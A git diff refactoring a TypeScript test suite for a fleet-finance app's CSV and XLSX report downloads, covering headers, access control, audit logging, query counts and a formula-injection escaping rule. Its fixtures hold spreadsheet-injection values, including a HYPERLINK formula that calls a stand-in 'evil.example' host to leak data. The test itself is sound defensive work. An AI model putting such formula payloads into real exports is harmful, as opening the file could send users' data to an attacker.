@@ -2,105 +2,68 @@ import { parse } from 'csv-parse/sync';
 import { and, eq } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { calendarDate } from '../core/dates.ts';
+import { auditEvents, driverAssignments, drivers, fleetVehicles, paymentOrders } from '../db/schema.ts';
 import {
-  auditEvents,
-  contracts,
-  driverAssignments,
-  drivers,
-  fleetVehicles,
-  paymentOrders,
-} from '../db/schema.ts';
-import { postPayment, reversePayment } from '../servicing/payment-posting.ts';
-import { leaseContract, loanContract } from '../test-support/contracts.ts';
-import { addMember, boardFleet, businessParty, createOrganization } from '../test-support/organizations.ts';
+  boardKeystone,
+  contractIds,
+  contractNumbers,
+  createOrganizations,
+  fleetRecord,
+  getAs,
+  type Login,
+  type Organizations,
+  OUTSIDERS,
+  party,
+  payKeystone,
+  paymentPoster,
+  queriesOf,
+  signInMembers,
+} from '../test-support/fleet-finances.ts';
+import { boardFleet } from '../test-support/organizations.ts';
 import { addTestBankAccount } from '../test-support/payment-methods.ts';
-import { countQueries } from '../test-support/query-count.ts';
 import { boardingKey, createTestApp, type TestApp } from '../test-support/test-app.ts';
-import { createUser, csrf, SESSION_COOKIE, signIn } from '../test-support/users.ts';
 
-// Keystone's three vehicles, paid through the real payment service (today is 2026-11-20):
+// Keystone's three vehicles (test-support/fleet-finances.ts), paid through the real payment service
+// (today is 2026-11-20):
 //   KS-0001 loan ($20,000 at 5% from 2026-01-10): paid 02-10 ($84.93 interest, $292.49 principal) and
 //     03-10 ($75.59, $301.83, reference "=SUM(A1)"), the 03-10 payment returned today (a $25.00 fee).
 //   KS-0002 lease ($397.57 = $375.07 base + $22.50 tax, from 2026-10-15): paid 10-15 online by the admin.
 //   KS-0003 loan from 2024-10-01: paid 2024-11-01 ($84.93 interest) and 2024-12-01 ($80.99 interest).
 // The fleet facts carry text a spreadsheet would run as a formula. Harbor and Summit (30) are others.
 let t: TestApp;
-const org: Record<string, string> = {};
-const sessions: Record<string, string> = {};
-const userIds: Record<string, string> = {};
-const system = { actor: { type: 'system' as const, id: 'test' } };
-let paymentKeys = 0;
+let org: Organizations;
+let sessions: Record<Login, string>;
+let userIds: Record<Login, string>;
 const UNIT = '=HYPERLINK("http://evil.example/?leak")';
-
-async function pay(contractNumber: string, amountCents: number, receivedOn: string, reference?: string) {
-  const posted = await postPayment(
-    t.database.db,
-    t.clock,
-    contractNumber,
-    { amountCents, receivedOn: calendarDate(receivedOn), channel: 'check', intent: 'regular', reference },
-    { scope: 'test', key: `payment-${++paymentKeys}` },
-    system,
-  );
-  return posted.body.paymentId;
-}
 
 beforeAll(async () => {
   t = await createTestApp();
   const key = await boardingKey(t.database);
-  const ks = businessParty('BIZ-KEYSTONE', 'Keystone Logistics LLC');
-  await boardFleet(t, key, ks, ['KS-0001']);
-  await boardFleet(t, key, ks, ['KS-0002'], leaseContract, {
-    contractDate: '2026-10-15',
-    firstPaymentDate: '2026-10-15',
-  });
-  await boardFleet(t, key, ks, ['KS-0003'], loanContract, {
-    contractDate: '2024-10-01',
-    firstPaymentDate: '2024-11-01',
-  });
-  await boardFleet(t, key, businessParty('BIZ-HARBOR', 'Harbor Courier Co.'), ['HC-0001']);
-  const summit = Array.from({ length: 30 }, (_, i) => `SM-${String(i + 1).padStart(4, '0')}`);
-  await boardFleet(t, key, businessParty('BIZ-SUMMIT', 'Summit Freight Inc.'), summit);
-  org.keystone = await createOrganization(t, 'BIZ-KEYSTONE');
-  org.harbor = await createOrganization(t, 'BIZ-HARBOR');
-  org.summit = await createOrganization(t, 'BIZ-SUMMIT');
-  for (const [login, name, role] of [
-    ['ks.admin', 'keystone', 'admin'],
-    ['ks.viewer', 'keystone', 'viewer'],
-    ['ks.driver', 'keystone', 'driver'],
-    ['hc.admin', 'harbor', 'admin'],
-    ['sm.admin', 'summit', 'admin'],
-  ] as const) {
-    userIds[login] = await createUser(t, login);
-    await addMember(t, org[name]!, userIds[login]!, role);
-  }
+  await boardKeystone(t, key);
+  await boardFleet(t, key, party('harbor'), ['HC-0001']);
+  const summit = contractNumbers('SM', 1, 30);
+  await boardFleet(t, key, party('summit'), summit);
+  org = await createOrganizations(t);
+  ({ userIds, sessions } = await signInMembers(t, org));
 
-  await pay('KS-0001', 37_742, '2026-02-10');
-  const returned = await pay('KS-0001', 37_742, '2026-03-10', '=SUM(A1)');
-  const online = await pay('KS-0002', 39_757, '2026-10-15');
-  await pay('KS-0003', 37_742, '2024-11-01');
-  await pay('KS-0003', 37_742, '2024-12-01');
+  const pay = paymentPoster(t);
+  const { leasePaymentId } = await payKeystone(t, pay);
   await pay('HC-0001', 37_742, '2026-02-10');
   for (const n of summit) await pay(n, 37_742, '2026-02-10');
-  await reversePayment(t.database.db, t.clock, 'KS-0001', returned, 'returned', system);
 
-  const ids = new Map(
-    (await t.database.db.select({ id: contracts.id, n: contracts.contractNumber }).from(contracts)).map(
-      (r) => [r.n, r.id],
-    ),
-  );
+  const ids = await contractIds(t);
   // The lease's payment as the online payment flow leaves it: an order by the admin, posted.
   await t.database.db.insert(paymentOrders).values({
     confirmationNumber: 'AF-TEST-0001',
     contractId: ids.get('KS-0002')!,
-    paymentMethodId: await addTestBankAccount(t.database.db, userIds['ks.admin']!, t.clock.now()),
-    payerUserId: userIds['ks.admin']!,
+    paymentMethodId: await addTestBankAccount(t.database.db, userIds['ks.admin'], t.clock.now()),
+    payerUserId: userIds['ks.admin'],
     source: 'one_time',
     amountCents: 39_757,
     intent: 'regular',
     effectiveDate: '2026-10-15',
     status: 'settled',
-    postedPaymentId: online,
+    postedPaymentId: leasePaymentId,
     createdAt: t.clock.now(),
     updatedAt: t.clock.now(),
   });
@@ -111,16 +74,11 @@ beforeAll(async () => {
       name: '@Dana Whitfield',
       email: 'dana@example.com',
       phone: '+12155550111',
-      userId: userIds['ks.driver']!,
+      userId: userIds['ks.driver'],
       createdAt: t.clock.now(),
     })
     .returning({ id: drivers.id });
-  const record = (contractNumber: string, organizationId: string, fields: object) => ({
-    contractId: ids.get(contractNumber)!,
-    organizationId,
-    updatedAt: t.clock.now(),
-    ...fields,
-  });
+  const record = fleetRecord(t, ids);
   await t.database.db.insert(fleetVehicles).values([
     record('KS-0001', org.keystone, {
       unitNumber: UNIT,
@@ -135,27 +93,21 @@ beforeAll(async () => {
       status: 'in_repair',
       driverId: dana!.id,
     }),
-    ...summit.map((n, i) => record(n, org.summit!, { unitNumber: `S-${i}`, costCenter: 'Yard' })),
+    ...summit.map((n, i) => record(n, org.summit, { unitNumber: `S-${i}`, costCenter: 'Yard' })),
   ]);
   await t.database.db.insert(driverAssignments).values({
     contractId: ids.get('KS-0002')!,
     driverId: dana!.id,
     assignedAt: t.clock.now(),
   });
-  for (const login of Object.keys(userIds)) sessions[login] = await signIn(t, login);
 }, 300_000);
 afterAll(() => t.close());
 
-const download = (login: string, path: string, organization = 'keystone') =>
-  t.app.inject({
-    method: 'GET',
-    url: `/api/v1/organizations/${org[organization]}/reports/${path}`,
-    headers: csrf.headers,
-    cookies: { ...csrf.cookies, [SESSION_COOKIE]: sessions[login]! },
-  });
+const download = (login: Login, path: string, organization: keyof Organizations = 'keystone') =>
+  getAs(t, sessions[login], `/api/v1/organizations/${org[organization]}/reports/${path}`);
 
 /** The CSV as rows of cells, header first (the byte-order mark dropped, quoting undone). */
-async function csvOf(login: string, path: string) {
+async function csvOf(login: Login, path: string) {
   const res = await download(login, path);
   expect(res.statusCode).toBe(200);
   expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
@@ -168,7 +120,7 @@ async function csvOf(login: string, path: string) {
 
 type XlsxCell = { value: ExcelJS.CellValue; type: ExcelJS.ValueType; numFmt: string | undefined };
 /** The first sheet read back with exceljs: the header and each row's cells by header. */
-async function xlsxOf(login: string, path: string) {
+async function xlsxOf(login: Login, path: string) {
   const res = await download(login, path);
   expect(res.statusCode).toBe(200);
   expect(res.headers['content-type']).toBe(
@@ -197,6 +149,7 @@ async function xlsxOf(login: string, path: string) {
 }
 
 const VEHICLE_HEADERS = ['Contract', 'Unit', 'VIN', 'Year', 'Make', 'Model', 'Cost center'];
+const SERVICE_HEADERS = ['Plate', 'Plate state', 'Vehicle status', 'Driver'];
 
 describe('the formula-injection rule', () => {
   it('gives every text cell starting with = + - @, a tab or a carriage return a leading apostrophe, in CSV and XLSX', async () => {
@@ -228,10 +181,7 @@ describe('GET …/reports/portfolio', () => {
     expect(res.headers['content-disposition']).toBe('attachment; filename="portfolio-2026-11-20.csv"');
     expect(header).toEqual([
       ...VEHICLE_HEADERS,
-      'Plate',
-      'Plate state',
-      'Vehicle status',
-      'Driver',
+      ...SERVICE_HEADERS,
       'Type',
       'Contract status',
       'Contract date',
@@ -415,10 +365,7 @@ describe('GET …/reports/drivers', () => {
     const { header, records } = await csvOf('ks.admin', 'drivers');
     expect(header).toEqual([
       ...VEHICLE_HEADERS,
-      'Plate',
-      'Plate state',
-      'Vehicle status',
-      'Driver',
+      ...SERVICE_HEADERS,
       'Driver email',
       'Driver phone',
       'Assigned on',
@@ -440,11 +387,7 @@ const withFormat = (path: string, format: string) =>
 
 describe('who may download the reports', () => {
   it.each(REPORTS)('%s: 404 for a driver and for another organization’s member', async (path) => {
-    for (const [login, organization] of [
-      ['ks.driver', 'keystone'],
-      ['hc.admin', 'keystone'],
-      ['ks.admin', 'harbor'],
-    ] as const) {
+    for (const [login, organization] of OUTSIDERS) {
       const res = await download(login, path, organization);
       expect(res.statusCode).toBe(404);
       expect(res.json().error.code).toBe('ORGANIZATIONS.NOT_FOUND');
@@ -459,7 +402,7 @@ describe('who may download the reports', () => {
       .where(
         and(
           eq(auditEvents.action, 'organization.export_report'),
-          eq(auditEvents.actorId, userIds['ks.viewer']!),
+          eq(auditEvents.actorId, userIds['ks.viewer']),
         ),
       );
     expect(events.at(-1)).toMatchObject({
@@ -484,14 +427,10 @@ describe('query counts', () => {
   it.each(REPORTS.flatMap((path) => [withFormat(path, 'csv'), withFormat(path, 'xlsx')]))(
     '%s costs as many queries for 30 vehicles as for 3',
     async (path) => {
-      const counted = async (login: string, organization: string) => {
-        const counter = countQueries(t.database.db);
-        try {
-          expect((await download(login, path, organization)).statusCode).toBe(200);
-        } finally {
-          counter.stop();
-        }
-        return counter.statements.length;
+      const counted = async (login: Login, organization: keyof Organizations) => {
+        const { answer, queries } = await queriesOf(t, () => download(login, path, organization));
+        expect(answer.statusCode).toBe(200);
+        return queries;
       };
       const three = await counted('ks.admin', 'keystone');
       const thirty = await counted('sm.admin', 'summit');
